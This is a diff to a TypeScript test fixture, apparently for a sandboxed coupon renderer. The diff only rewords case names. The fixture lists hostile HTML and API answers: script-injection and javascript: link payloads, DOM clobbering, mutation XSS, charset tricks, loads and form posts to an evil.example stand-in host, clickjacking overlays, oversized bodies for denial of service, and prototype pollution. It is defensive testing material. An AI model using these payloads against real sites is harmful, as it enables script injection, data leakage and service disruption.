@@ -1,8 +1,8 @@
-/** Coupons and answers that mean harm, or that no one meant: a script that runs sets `hit` on the page. */
+/** Malicious and broken coupons and answers. A script of theirs that runs sets `hit` on the page. */
 
 export interface Hostile {
   name: string;
-  /** `data` of the answer; a text is the whole body. */
+  /** `data` of the answer, or the whole body as text. */
   answer: Record<string, unknown> | string;
   format?: 'html' | 'pdf' | 'both' | 'none';
 }
@@ -41,7 +41,7 @@ const bodies: Record<string, string> = {
   'a script': `<script>${run}</script>`,
   'a script in the head': `<html><head><script>${run}</script></head><body>x</body></html>`,
   'a module': `<script type="module">${run}</script>`,
-  'a script from elsewhere': `<script src="${evil}/x.js"></script>`,
+  'a script of another site': `<script src="${evil}/x.js"></script>`,
   'a script from a data URL': `<script src="data:text/javascript,${run}"></script>`,
   'a script in SVG': `<svg><script>${run}</script></svg>`,
   'a script in SVG by address': `<svg><script href="data:text/javascript,${run}"/></svg>`,
@@ -63,13 +63,13 @@ const bodies: Record<string, string> = {
   'a javascript: link with a tab in it': `<a href="java\tscript:${run}">Click here</a>`,
   'a javascript: link in entities': `<a href="&#1;&#x6A;avascript&colon;${run}">Click here</a>`,
   'a javascript: link in SVG': `<svg><a xlink:href="${js}" href="${js}"><text y=30>Click here</text></a></svg>`,
-  'a link that SMIL turns': `<svg><a><animate attributeName=href values="${js}"/><text y=30>Click here</text></a></svg>`,
+  'a link that SMIL animates': `<svg><a><animate attributeName=href values="${js}"/><text y=30>Click here</text></a></svg>`,
   'a link that SMIL sets': `<svg><a id=l><text y=30>Click</text></a><set href="#l" attributeName=href to="${js}"/></svg>`,
   'a MathML link': `<math href="${js}"><mi xlink:href="${js}">Click here</mi></math>`,
   'a data: link': `<a href="data:text/html,<script>${run}</script>">Click here</a>`,
   'a blob: link': '<a href="blob:https://evil.example/1">Click here</a>',
-  'a link to the page around': '<a href="/elsewhere" target="_top">Click here</a>',
-  'a link that leads the frame away': '<a href="#top" target="_self">Click here</a>',
+  'a link to the host page': '<a href="/elsewhere" target="_top">Click here</a>',
+  'a link that navigates the frame': '<a href="#top" target="_self">Click here</a>',
   'a link into the parent': '<a href="?gone" target="_parent">Click here</a>',
   'an image map': `<img usemap=#m src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width=99 height=99><map name=m><area shape=default href="${js}"></map>`,
   'a link with ping': `<a href="#" ping="${evil}/ping">Click here</a>`,
@@ -80,22 +80,22 @@ const bodies: Record<string, string> = {
   'a form': `<form action="${evil}/form"><input name=card value=1><button>Click here</button></form>`,
   'a form by javascript': `<form action="${js}"><button formaction="${js}">Click here</button></form>`,
   'a form around clobbered names': `<form><input name=attributes><input name=remove><input name=childNodes><input name=localName><input name=before><input id=firstChild><img src=x onerror="${run}"></form><p>x</p>`,
-  'names that stand before the document': `<img name=querySelectorAll><img name=documentElement><img name=body><img name=createTreeWalker><img src=x onerror="${run}"><p>x</p>`,
+  'names that clobber the document': `<img name=querySelectorAll><img name=documentElement><img name=body><img name=createTreeWalker><img src=x onerror="${run}"><p>x</p>`,
   'a frame': `<iframe src="${js}"></iframe><iframe srcdoc="<script>top.hit=1</script>"></iframe>`,
-  'a frame from elsewhere': `<iframe src="${evil}/frame"></iframe>`,
+  'a frame of another site': `<iframe src="${evil}/frame"></iframe>`,
   'a frameset': `<frameset onload="${run}"><frame src="${js}"></frameset>`,
   'an object': `<object data="${js}"></object><object data="${evil}/o"></object><embed src="${js}">`,
   'an applet and a portal': `<applet code="${evil}/a"></applet><portal src="${evil}/p"></portal>`,
-  'a style sheet from elsewhere': `<link rel=stylesheet href="${evil}/s.css">`,
+  'a style sheet of another site': `<link rel=stylesheet href="${evil}/s.css">`,
   'preconnect, prefetch, preload': `<link rel=preconnect href="${evil}"><link rel=dns-prefetch href="//evil.example"><link rel=prefetch href="${evil}/p"><link rel=preload as=image href="${evil}/p">`,
   'a manifest and an icon': `<link rel=manifest href="${evil}/m"><link rel=icon href="${evil}/i"><link rel=modulepreload href="${evil}/m.js">`,
   '@import': `<style>@import "${evil}/i.css";@import url(${evil}/j.css)</style><p>x</p>`,
   '@font-face': `<style>@font-face{font-family:f;src:url(${evil}/f.woff)}p{font-family:f}</style><p>x</p>`,
   'escapes in CSS': `<style>@\\69mport "${evil}/i.css";p{background:\\75\\72l(http://evil.example/e.png)}</style><p style="background:u\\72 l(http://evil.example/e2.png)">x</p>`,
-  'SVG paint from elsewhere': `<svg><rect width=99 height=99 fill="url(${evil}/p.svg#a)" clip-path="url(${evil}/c.svg#a)"/></svg>`,
-  'http pictures':
+  'SVG paint of another site': `<svg><rect width=99 height=99 fill="url(${evil}/p.svg#a)" clip-path="url(${evil}/c.svg#a)"/></svg>`,
+  'http images':
     '<img src="http://evil.example/p.png"><p style="background:url(http://evil.example/b.png)">x</p>',
-  'pictures of the page around': '<img src="/private.png"><img srcset="/private2.png 2x"><p>x</p>',
+  'images of the host page': '<img src="/private.png"><img srcset="/private2.png 2x"><p>x</p>',
   'javascript: in CSS': `<p style="background:url('${js}');behavior:url(x);-moz-binding:url(${evil}/x)">x</p>`,
   'a style that closes itself': `<style></style><img src=x onerror="${run}"><!--</style>--><p>x</p>`,
   'mutation by SVG style': `<svg><style><a title="</style><img src=x onerror=${run}>"></style></svg><p>x</p>`,
@@ -110,7 +110,7 @@ const bodies: Record<string, string> = {
   'no body at all': '',
   'white space alone': ' \n\t ',
   'a popover and a dialog': `<dialog open><p>x</p><form method=dialog><button popovertarget=p>Click here</button></form></dialog><div popover id=p onbeforetoggle="${run}">x</div>`,
-  'a customised element': `<x-card onclick="${run}" is="x-y" style="display:block">Click here</x-card>`,
+  'a customized element': `<x-card onclick="${run}" is="x-y" style="display:block">Click here</x-card>`,
   'an overlay over everything': `<a href="${js}" style="position:fixed;inset:0;z-index:2147483647;opacity:0">x</a><p>x</p>`,
   'an overlay with a form': `<form style="position:fixed;inset:0" action="${evil}/f"><input style="width:100%;height:100%" type=submit></form><p>x</p>`,
   'endless height': '<p style="height:10000000px">x</p>',
@@ -124,12 +124,12 @@ const bodies: Record<string, string> = {
   'a table of 100,000 cells': `<table>${'<td>x'.repeat(100_000)}</table>`,
   '10,000 attributes': `<p ${Array.from({ length: 10_000 }, (_, i) => `a${i}=1`).join(' ')}>x</p>`,
   '40,000 attributes': `<p ${Array.from({ length: 40_000 }, (_, i) => `a${i.toString(36)}`).join(' ')}>x</p>`,
-  'ends of what never began': `${'</p>'.repeat(700_000)}x`,
-  'an address in escaped letters': `<p style="background:u\\rl(http://evil.example/e.png)">x</p>`,
-  'a selector that asks much': `<style>${':has(* *)'.repeat(12)}{color:red}</style>${'<p><b>x</b></p>'.repeat(500)}`,
+  'end tags without start tags': `${'</p>'.repeat(700_000)}x`,
+  'a URL in escaped letters': `<p style="background:u\\rl(http://evil.example/e.png)">x</p>`,
+  'an expensive selector': `<style>${':has(* *)'.repeat(12)}{color:red}</style>${'<p><b>x</b></p>'.repeat(500)}`,
   'tags without an end': `${'<p title='.repeat(11_000)}${'x'.repeat(2_000_000)}`,
   'rules without an end': `<style>${'@font-face{'.repeat(100_000)}${'url('.repeat(100_000)}${'@import '.repeat(50_000)}</style><p>x</p>`,
-  'styles in other clothes': `<noframes data-inline-style="x">@import "${evil}/n.css";</noframes><p data-inline-style="background:url(http://evil.example/d.png)" sTyLe = "background:url(http://evil.example/s.png)">x</p><svg><style>@import "${evil}/v.css"</style></svg>`,
+  'styles in disguise': `<noframes data-inline-style="x">@import "${evil}/n.css";</noframes><p data-inline-style="background:url(http://evil.example/d.png)" sTyLe = "background:url(http://evil.example/s.png)">x</p><svg><style>@import "${evil}/v.css"</style></svg>`,
   'a megabyte without a space': `<p>${'x'.repeat(1_000_000)}</p>`,
 };
 
@@ -147,8 +147,8 @@ const bigPdf = (size: number) => {
 };
 
 const answers: Record<string, [Hostile['answer'], Hostile['format']?]> = {
-  'UTF-16 with its mark': [{ ...codes, coupon_html: utf16(scripted) }],
-  'UTF-16 without its mark': [{ ...codes, coupon_html: utf16(scripted, false) }],
+  'UTF-16 with a byte order mark': [{ ...codes, coupon_html: utf16(scripted) }],
+  'UTF-16 without a byte order mark': [{ ...codes, coupon_html: utf16(scripted, false) }],
   'UTF-7': [{ ...codes, coupon_html: utf8(`<meta charset=utf-7>+ADw-script+AD4-${run}+ADw-/script+AD4-`) }],
   'ISO-2022-JP': [
     {
@@ -156,7 +156,7 @@ const answers: Record<string, [Hostile['answer'], Hostile['format']?]> = {
       coupon_html: utf8(`<meta charset=iso-2022-jp><p title="\x1b$@">x</p><img src=x onerror="${run}">`),
     },
   ],
-  'bytes that are no text': [
+  'bytes that are not text': [
     { ...codes, coupon_html: base64(Uint8Array.from({ length: 5000 }, (_, i) => (i * 7919) % 256)) },
   ],
   'NUL in tags': [
@@ -165,13 +165,13 @@ const answers: Record<string, [Hostile['answer'], Hostile['format']?]> = {
   'base64 with white space': [{ ...codes, coupon_html: `${utf8(scripted)}\n` }],
   'base64 with junk': [{ ...codes, coupon_html: `!!${utf8(scripted)}` }],
   'base64 cut short': [{ ...codes, coupon_html: utf8(scripted).slice(0, 61) }],
-  'base64 of the other alphabet': [
+  base64url: [
     { ...codes, coupon_html: utf8('<p>??>>~~</p>').replaceAll('/', '_').replaceAll('+', '-') + '_' },
   ],
   'HTML that is not base64': [{ ...codes, coupon_html: scripted }],
   'HTML of 20 MB': [{ ...codes, coupon_html: utf8(`<p>${'x'.repeat(15_000_000)}</p>`) }],
   'HTML called PDF': [{ ...codes, coupon_pdf: utf8(scripted) }, 'pdf'],
-  'a PDF behind a page': [{ ...codes, coupon_pdf: utf8(`${scripted}%PDF-1.4`) }, 'pdf'],
+  'a PDF after HTML': [{ ...codes, coupon_pdf: utf8(`${scripted}%PDF-1.4`) }, 'pdf'],
   'a PDF over the cap': [{ ...codes, coupon_pdf: bigPdf(24_000_000) }, 'pdf'],
   'a PDF of 10 MB': [{ ...codes, coupon_pdf: bigPdf(10_000_000) }, 'pdf'],
   'a PDF with a script': [
@@ -192,7 +192,7 @@ const answers: Record<string, [Hostile['answer'], Hostile['format']?]> = {
     },
     'pdf',
   ],
-  'a PDF where HTML was asked for': [{ ...codes, coupon_pdf: pdf('') }],
+  'a PDF in place of HTML': [{ ...codes, coupon_pdf: pdf('') }],
   'both forms, both broken': [{ ...codes, coupon_html: '*', coupon_pdf: '*' }, 'both'],
   'neither form': [codes, 'both'],
   'wrong types': [
@@ -208,21 +208,21 @@ const answers: Record<string, [Hostile['answer'], Hostile['format']?]> = {
     },
   ],
   'nothing in it': [{}],
-  'javascript: as its address': [{ ...codes, url: js, coupon_html: utf8('<p>x</p>') }],
-  'data: as its address': [{ ...codes, url: `data:text/html,<script>${run}</script>` }],
+  'a javascript: URL': [{ ...codes, url: js, coupon_html: utf8('<p>x</p>') }],
+  'a data: URL': [{ ...codes, url: `data:text/html,<script>${run}</script>` }],
   'markup in every field': [
     Object.fromEntries(Object.keys(codes).map((key) => [key, `<img src=x onerror="${run}">`])),
   ],
   'endless fields': [Object.fromEntries(Object.keys(codes).map((key) => [key, 'x'.repeat(1_000_000)]))],
-  'marks that reorder text': [
+  'characters that reorder text': [
     { ...codes, rxbin: '\u202e599510\u202c', pharmacy_name: `Corner${'\u0301'.repeat(5000)}` },
   ],
-  'an endless price': [{ ...codes, price: 1e308 }],
-  'a price below nothing': [{ ...codes, price: -5 }],
-  'a phone number that is markup': [
+  'a huge price': [{ ...codes, price: 1e308 }],
+  'a negative price': [{ ...codes, price: -5 }],
+  'markup as a phone number': [
     { ...codes, phone: `"><script>${run}</script>800-555-0123`, pharm_phone: 'javascript:1' },
   ],
-  'no JSON': ['<html><script>top.hit=1</script></html>'],
+  'not JSON': ['<html><script>top.hit=1</script></html>'],
   'a list': ['[1,2,3]'],
   null: ['null'],
   'a prototype': ['{"data":{"__proto__":{"rxbin":"<b>"},"constructor":1}}'],
